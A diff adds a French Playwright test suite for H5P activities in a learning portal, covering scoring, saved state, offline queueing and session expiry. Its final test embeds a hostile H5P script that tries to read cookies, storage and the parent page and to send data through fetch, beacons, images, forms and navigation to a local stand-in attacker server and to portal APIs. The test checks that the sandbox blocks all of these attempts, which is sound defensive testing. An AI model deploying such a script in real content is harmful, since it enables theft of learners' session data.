@@ -1,0 +1,266 @@
+"""Une activité H5P dans un vrai navigateur : elle joue, note, reprend, attend le réseau, et ne sort pas de sa boîte."""
+
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from threading import Thread
+from typing import Any
+
+import pytest
+from playwright.sync_api import FrameLocator, Page, expect
+
+from cours.models import ModuleActivite, ModulePage
+from evaluations.models import Declaration, EtatH5P, Tentative
+from lms import suivi
+from lms.models import Professionnel, ProgressionActivite
+from tests.fabrique_h5p import installer_activite, installer_bibliotheque
+from tests.lms.fabriques import module_page
+
+from .conftest import Surveillance, personne, se_connecter
+
+ADRESSE = "/apprendre/A1/A1-H5P/"
+
+
+@pytest.fixture(autouse=True)
+def statiques_ouverts(monkeypatch: pytest.MonkeyPatch) -> None:
+    """WhiteNoise sert les fichiers statiques à toute origine ; le serveur des tests doit faire de même."""
+    from django.contrib.staticfiles.handlers import StaticFilesHandlerMixin
+
+    servir = StaticFilesHandlerMixin.serve
+
+    def ouvert(self: Any, request: Any) -> Any:
+        reponse = servir(self, request)
+        reponse["Access-Control-Allow-Origin"] = "*"
+        return reponse
+
+    monkeypatch.setattr(StaticFilesHandlerMixin, "serve", ouvert)
+
+
+@pytest.fixture
+def poser(portail_leger: ModulePage) -> Callable[..., Any]:
+    """Installe une activité d'essai dans le module A1, et y inscrit la personne."""
+
+    def _poser(profil: Professionnel, **champs: Any) -> Any:
+        une = installer_activite(**champs)
+        ModuleActivite.objects.create(module_page=portail_leger, activite_id=une.pk, sort_order=9)
+        suivi.inscrire(professionnel=profil, module_page=portail_leger)
+        return une
+
+    return _poser
+
+
+@pytest.fixture
+def portail_leger(live_server: Any, transactional_db: None) -> ModulePage:
+    """Le module A1 et rien d'autre : les activités H5P n'ont pas besoin du curriculum."""
+    from lms.referentiel import installer_metiers
+    from lms.roles import installer_roles
+
+    installer_roles()
+    installer_metiers()
+    return module_page("A1")
+
+
+@pytest.fixture
+def nadia(portail_leger: ModulePage) -> Professionnel:
+    return personne("Nadia")
+
+
+@pytest.fixture
+def ouvrir(ouvrir: Callable[..., Page]) -> Iterator[Callable[..., Page]]:
+    """Une page qui se ferme envoie encore ce qu'elle garde : on la quitte, et on attend, avant de vider la base."""
+    pages: list[Page] = []
+
+    def _ouvrir(*arguments: Any, **options: Any) -> Page:
+        pages.append(ouvrir(*arguments, **options))
+        return pages[-1]
+
+    yield _ouvrir
+    for page in pages:
+        page.goto("about:blank")
+        page.wait_for_timeout(1000)
+
+
+def commencer(page: Page) -> FrameLocator:
+    """« Commencer », puis le cadre de l'activité, prêt."""
+    page.goto(ADRESSE)
+    bouton = page.locator("main button:has-text('Commencer')")
+    if bouton.count():
+        bouton.click()
+    page.wait_for_selector("iframe.prete", state="attached")
+    return page.frame_locator("#activite-h5p iframe")
+
+
+def test_une_activite_se_joue_se_note_et_reprend_ou_elle_en_etait(
+    ouvrir: Callable[..., Page], nadia: Professionnel, poser: Callable[..., Any]
+) -> None:
+    poser(nadia)
+    page = ouvrir()
+    se_connecter(page, nadia)
+    cadre = commencer(page)
+    expect(cadre.locator("img")).to_have_js_property("naturalWidth", 1)
+    cadre.locator(".choix-faux").click()
+    cadre.locator(".choix-juste").click()
+    expect(page.locator("[data-score]")).to_contain_text("1 sur 1")
+    assert ProgressionActivite.objects.get().genre_preuve == "client"
+    assert page.evaluate("document.documentElement.scrollWidth") <= 360
+    with page.expect_response(lambda r: r.url.endswith("/state") and r.ok):
+        page.evaluate("window.dispatchEvent(new Event('resize'))")
+    assert EtatH5P.objects.get().data == '{"choix":"juste"}'
+    page.reload()
+    expect(page.frame_locator("#activite-h5p iframe").locator(".choisi")).to_have_text("Vous aviez choisi : juste")
+
+
+def test_hors_ligne_les_reponses_attendent_puis_partent_avec_les_memes_identifiants(
+    ouvrir: Callable[..., Page], surveillance: Surveillance, nadia: Professionnel, poser: Callable[..., Any]
+) -> None:
+    poser(nadia)
+    page = ouvrir()
+    se_connecter(page, nadia)
+    cadre = commencer(page)
+    page.wait_for_timeout(3000)
+    page.context.set_offline(True)
+    cadre.locator(".choix-juste").click()
+    expect(page.locator("[data-etat=attente]")).to_be_visible()
+    assert not Declaration.objects.filter(verb__iri__endswith="answered").exists()
+    page.context.set_offline(False)
+    expect(page.locator("[data-fin]")).to_be_visible()
+    expect(page.locator("[data-etat=envoye]")).to_be_visible()
+    assert Declaration.objects.filter(verb__iri__endswith="answered").count() == 1
+    surveillance.fautes[:] = [f for f in surveillance.fautes if "ERR_INTERNET_DISCONNECTED" not in f]
+
+
+def test_session_expiree_la_file_attend_la_meme_personne_et_ignore_une_autre(
+    ouvrir: Callable[..., Page], surveillance: Surveillance, nadia: Professionnel, poser: Callable[..., Any]
+) -> None:
+    poser(nadia)
+    yann = personne("Yann")
+    suivi.inscrire(professionnel=yann, module_page=ModulePage.objects.get(code="A1"))
+    page = ouvrir()
+    se_connecter(page, nadia)
+    cadre = commencer(page)
+    page.wait_for_timeout(3000)
+    page.context.clear_cookies(name="sessionid")
+    cadre.locator(".choix-juste").click()
+    expect(page.locator("[data-message=connexion]")).to_be_visible()
+    se_connecter(page, yann)
+    commencer(page)
+    page.wait_for_timeout(3000)
+    assert not Declaration.objects.filter(verb__iri__endswith="answered").exists()
+    page.context.clear_cookies(name="sessionid")
+    se_connecter(page, nadia)
+    commencer(page)
+    expect(page.locator("[data-score]")).to_contain_text("1 sur 1")
+    assert Declaration.objects.get(verb__iri__endswith="answered").actor.personne == nadia.user
+    surveillance.fautes[:] = [f for f in surveillance.fautes if "401 (Unauthorized)" not in f]
+
+
+def test_une_activite_sans_constructeur_montre_un_message(
+    ouvrir: Callable[..., Page], nadia: Professionnel, poser: Callable[..., Any], surveillance: Surveillance
+) -> None:
+    poser(nadia, bibliotheque=installer_bibliotheque("H5P.TestVide", js="var rien = 1;"))
+    page = ouvrir()
+    se_connecter(page, nadia)
+    page.goto(ADRESSE)
+    page.click("main button:has-text('Commencer')")
+    expect(page.locator("[data-echec]")).to_be_visible()
+    expect(page.locator("[data-echec]")).to_contain_text("prévenez votre formateur")
+    surveillance.fautes.clear()
+
+
+class Ecouteur:
+    """Un serveur d'attaquant, local : il note tout ce qu'il reçoit."""
+
+    def __init__(self) -> None:
+        recus: list[str] = []
+
+        class Oreille(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                recus.append(f"{self.command} {self.path}")
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_PUT = do_OPTIONS = do_HEAD = do_GET
+
+            def log_message(self, *arguments: Any) -> None:
+                """Rien dans le journal."""
+
+        self.recus = recus
+        self.serveur = ThreadingHTTPServer(("127.0.0.1", 0), Oreille)
+        self.origine = f"http://127.0.0.1:{self.serveur.server_port}"
+        Thread(target=self.serveur.serve_forever, daemon=True).start()
+
+
+@pytest.fixture
+def ecouteur() -> Iterator[Ecouteur]:
+    un = Ecouteur()
+    yield un
+    un.serveur.shutdown()
+
+
+HOSTILE_JS = """
+H5P.TestHostile = (function () {
+  function Hostile() { H5P.EventDispatcher.call(this); }
+  Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
+  Hostile.prototype.attach = function ($container) {
+    var cible = '__CIBLE__', portail = '__PORTAIL__', butin = [];
+    function essayer(nom, geste) {
+      try { var valeur = geste(); if (valeur) { butin.push(nom + '=' + valeur); } } catch (erreur) { return; }
+    }
+    var natif = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
+    essayer('cookie', function () { return natif.get.call(document); });
+    essayer('stockage', function () { return Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage'); });
+    essayer('dom', function () { return window.parent.document.body.innerHTML; });
+    essayer('indexeddb', function () { indexedDB.open('x'); return 'ouvert'; });
+    essayer('top', function () { window.top.location.href = cible + '/top'; });
+    essayer('fenetre', function () { return window.open(cible + '/fenetre'); });
+    essayer('beacon', function () { navigator.sendBeacon(cible + '/beacon', 'x'); });
+    essayer('image', function () { new Image().src = cible + '/image'; });
+    essayer('script', function () {
+      var s = document.createElement('script'); s.src = cible + '/script'; document.body.append(s);
+    });
+    essayer('formulaire', function () {
+      var f = document.createElement('form'); f.action = cible + '/formulaire'; f.method = 'post';
+      document.body.append(f); f.submit();
+    });
+    [cible + '/fetch', portail + '/api/h5p/__TENTATIVE__/statements', portail + '/mon-compte/',
+     portail + '/h5p/c/00000000000000000000000000000000-0/content/images/essai.png'].forEach(function (adresse) {
+      fetch(adresse, {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}'}).catch(function () {});
+      fetch(adresse, {credentials: 'include'}).then(function (r) { if (r.ok) { butin.push(adresse); } })
+        .catch(function () {});
+    });
+    $container.append('<p class="butin">').find('.butin').text('essais faits');
+    setTimeout(function () { $container.find('.butin').text('butin : ' + butin.join(' ; ')); }, 1500);
+    setTimeout(function () { window.location.href = cible + '/navigation'; }, 2500);
+  };
+  return Hostile;
+})();
+"""
+
+
+def test_une_activite_hostile_ne_touche_a_rien(
+    ouvrir: Callable[..., Page],
+    live_server: Any,
+    surveillance: Surveillance,
+    nadia: Professionnel,
+    poser: Callable[..., Any],
+    ecouteur: Ecouteur,
+) -> None:
+    js = HOSTILE_JS.replace("__CIBLE__", ecouteur.origine).replace("__PORTAIL__", live_server.url)
+    poser(nadia, bibliotheque=installer_bibliotheque("H5P.TestHostile", js=js), params={})
+    page = ouvrir()
+    se_connecter(page, nadia)
+    page.evaluate("localStorage.setItem('secret', 'du portail')")
+    cadre = commencer(page)
+    depuis = len(surveillance.requetes)
+    expect(cadre.locator(".butin")).to_contain_text("butin :")
+    butin = cadre.locator(".butin").inner_text()
+    page.wait_for_timeout(3000)
+    assert butin.removeprefix("butin :").strip() in {"", "stockage=[object Object]"}
+    assert ecouteur.recus == []
+    assert "/apprendre/A1/" in page.url
+    atteintes = [
+        r for r in surveillance.requetes[depuis:] if r.frame != page.main_frame and r.url.startswith(live_server.url)
+    ]
+    assert not [r.url for r in atteintes if "/api/" in r.url or "/mon-compte/" in r.url]
+    assert not Declaration.objects.exists()
+    assert Tentative.objects.get().date_fin is None
+    surveillance.fautes.clear()
